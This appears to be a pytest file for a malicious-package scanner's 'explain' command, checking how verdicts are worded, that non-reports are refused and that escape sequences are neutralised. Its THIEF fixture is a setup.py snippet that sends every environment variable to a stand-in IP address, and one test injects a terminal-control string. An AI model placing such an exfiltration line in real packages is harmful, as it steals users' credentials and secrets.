"""`pumpkin explain` says in words how a verdict came about, of each kind of report, and of nothing else."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from pumpkin.analysis import static
from pumpkin.commands.scan import explain

THIEF = (
    b"import os, urllib.request\nurllib.request.urlopen('http://198.51.100.7/', data=str(dict(os.environ)).encode())\n"
)


def told(tmp_path: Path, value: Any) -> tuple[int, str]:
    path = tmp_path / "report.json"
    path.write_bytes(value if isinstance(value, bytes) else json.dumps(value).encode())
    ran = CliRunner().invoke(explain, [str(path)])
    assert ran.exception is None or isinstance(ran.exception, SystemExit), ran.exception
    return ran.exit_code, ran.output


@pytest.fixture(scope="module")
def report() -> dict[str, Any]:
    return static.scan_files({"setup.py": THIEF}, "thief-1.0").as_json()


def test_the_groups_the_findings_and_the_rules_are_told(tmp_path: Path, report: dict[str, Any]) -> None:
    code, text = told(tmp_path, report)
    assert (code, text.startswith("thief-1.0: malicious, score ")) == (0, True)
    assert f"by rule set {report['rules']}" in text
    assert f"static-flow  {report['groups']['static-flow']:.2f}  {report['findings'][0]['reason']}" in text


def test_a_servers_report_is_told_with_what_was_said_before(tmp_path: Path, report: dict[str, Any]) -> None:
    verdict = {key: report[key] for key in ("outcome", "score", "why", "groups", "not_checked", "rules")}
    before = {**verdict, "outcome": "clean", "score": 0, "at": "2026-01-01T00:00:00Z"}
    results = {"verdict": verdict, "findings": report["findings"], "previous_verdicts": [before]}
    code, text = told(tmp_path, {"metadata": {"purl": "pkg:pypi/thief@1.0"}, "analysis_results": results})
    assert (code, text.startswith("pkg:pypi/thief@1.0: malicious")) == (0, True)
    assert "before (2026-01-01T00:00:00Z): clean, score 0 of 100" in text


@pytest.mark.parametrize(
    "value",
    [b"", b"\xff", b"[]", b"null", b"7", {}, {"findings": []},
     {"findings": [1], "outcome": 1, "score": 2, "artifact": []},
     {"findings": 7, "outcome": "x", "score": 1, "groups": {"a": 1}}, {"analysis_results": []}, b"[" * 100_000,
     {"findings": [], "outcome": "x", "score": 1, "groups": {"a": "b"}}],
)  # fmt: skip
def test_what_is_no_report_is_refused_in_a_sentence(tmp_path: Path, value: Any) -> None:
    code, text = told(tmp_path, value)
    assert (code, text) == (
        1,
        "Error: This file is no report: JSON with `outcome`, `score` and `findings` is expected.\n",
    )


def test_a_reports_texts_cannot_steer_the_terminal(tmp_path: Path, report: dict[str, Any]) -> None:
    _, text = told(tmp_path, {**report, "why": ["\x1b[2J\u202egone"]})
    assert "\x1b" not in text
    assert "\\x1b[2J\\u202egone" in text
